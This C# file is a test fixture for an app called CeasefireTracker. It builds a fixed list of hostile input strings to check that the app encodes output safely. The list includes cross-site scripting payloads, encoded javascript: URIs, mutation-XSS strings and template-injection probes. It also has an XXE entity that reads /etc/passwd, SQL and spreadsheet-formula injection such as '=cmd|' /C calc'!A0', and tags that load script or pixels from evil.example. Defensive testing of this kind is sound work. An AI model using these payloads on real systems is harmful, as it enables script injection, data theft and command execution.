namespace CeasefireTracker.Tests.Hostile;

/// <summary>Texts that would run script, load something or leave their place in a page that does not encode them. Made here, always the
/// same.</summary>
public static class Payloads
{
    private static readonly string[] Tags =
    [
        "script",
        "img",
        "svg",
        "iframe",
        "object",
        "embed",
        "body",
        "input",
        "details",
        "video",
        "audio",
        "math",
        "form",
        "a",
        "button",
        "marquee",
        "style",
        "link",
        "base",
        "meta",
        "textarea",
        "select",
        "template",
        "noscript",
        "table",
        "isindex",
        "x",
        "svg/animate",
        "svg><set",
        "math><mtext",
    ];

    private static readonly string[] Handlers =
    [
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
        "onbegin",
        "onstart",
        "onpointerenter",
        "onhashchange",
        "oNeRRor",
        "on\u00E9rror",
        "onwheel",
        "onbeforetoggle",
    ];

    private static readonly (string Open, string Close)[] Quotes = [("", ""), ("'", "'"), ("\"", "\""), ("`", "`")];
    private static readonly string[] Gaps = [" ", "/", " / ", "\u3000"];
    private static readonly string[] Calls = ["alert(1)", "alert&#40;1&#41;", "import('//evil.example')", "top['al'+'ert'](1)"];

    private static readonly string[] Schemes =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x0A;script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61vascript:alert(1)",
        "%6Aavascript:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "blob:https://evil.example/1",
        "filesystem:https://evil.example/1",
        "file:///etc/passwd",
        "//evil.example/x.js",
        "\\\\evil.example\\x",
        "javascript://%0aalert(1)",
        "javascript:/*-->*/alert(1)",
        "ｊavascript:alert(1)",
        "jav\u00ADascript:alert(1)",
        "https://user@evil.example/",
        "ws://evil.example/",
        "mailto:a@b?body=<script>alert(1)</script>",
    ];

    private static readonly string[] Contexts =
    [
        "{0}",
        "<a href=\"{0}\">x</a>",
        "<a href='{0}'>x</a>",
        "<iframe src=\"{0}\">",
        "<form action=\"{0}\"><button>x",
        "<button formaction=\"{0}\">x",
        "[x]({0})",
        "![x]({0})",
        "<{0}>",
        "[x][1]\n\n[1]: {0}",
        "[x](<{0}>)",
        "[x]({0} \"onclick=alert(1)\")",
        "\"><a href=\"{0}\">",
        "<svg><a xlink:href=\"{0}\"><text>x",
        "<math href=\"{0}\">x",
        "<meta http-equiv=refresh content=\"0;url={0}\">",
        "<base href=\"{0}\">",
        "<link rel=stylesheet href=\"{0}\">",
        "<object data=\"{0}\">",
        "<img src=\"{0}\">",
        "<video poster=\"{0}\">",
        "<img srcset=\"{0} 1x\">",
        "url({0})",
        "<style>@import '{0}';</style>",
    ];

    private static readonly string[] Single =
    [
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<script>alert(1)",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<<script>alert(1)//<</script>",
        "<script src=//evil.example>",
        "<script\u3000>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
        "` onfocus=alert(1) `",
        "<plaintext>",
        "<!--",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><x>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{7*7}",
        "<%= 7*7 %>",
        "@(7*7)",
        "{% raw %}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)",
        "＜script＞alert(1)＜/script＞",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<a{onclick=alert(1)}>",
        "{onclick=alert(1)}",
        "[x](y){onclick=alert(1)}",
        "# x {#y onclick=alert(1)}",
        "::: script\nalert(1)\n:::",
        "<details open ontoggle=alert(1)>",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "＝1＋1",
        "BEGIN:VEVENT\\nSUMMARY:x",
        "\nX-INJECTED: 1",
        "a;b,c\\d",
        "\"\"\"quoted\"\"\"",
        "'; DROP TABLE events; --",
        "\" OR 1=1 --",
        "') UNION SELECT 1 --",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"position:fixed;inset:0;background:red\">",
        "<p style=\"x:expression(alert(1))\">",
        "<xss style=behavior:url(x.htc)>",
        "<img src=\"https://evil.example/pixel\">",
        "![](https://evil.example/pixel)",
        "<link rel=prefetch href=//evil.example>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<slot onslotchange=alert(1)>",
        "<portal src=//evil.example>",
    ];

    /// <summary>All of them, in a fixed order, each once.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Make().Distinct(StringComparer.Ordinal)];

    /// <summary>A part that is spread over all of them.</summary>
    public static IEnumerable<string> Some(int count) =>
        count >= All.Count ? All : Enumerable.Range(0, count).Select(i => All[(int)((long)i * All.Count / count)]);

    private static IEnumerable<string> Make()
    {
        foreach (var single in Single)
        {
            yield return single;
        }

        foreach (var scheme in Schemes)
        {
            foreach (var context in Contexts)
            {
                yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, context, scheme);
            }
        }

        var turn = 0;
        foreach (var tag in Tags)
        {
            foreach (var handler in Handlers)
            {
                foreach (var (open, close) in Quotes)
                {
                    foreach (var gap in Gaps)
                    {
                        var call = Calls[turn++ % Calls.Length];
                        yield return (turn % 3) switch
                        {
                            0 => $"<{tag}{gap}{handler}={open}{call}{close}>",
                            1 => $"\"><{tag}{gap}src=x{gap}{handler}={open}{call}{close} x",
                            _ => $"</p><{tag}{gap}autofocus{gap}{handler}={open}{call}{close}></{tag}>",
                        };
                    }
                }
            }
        }
    }
}
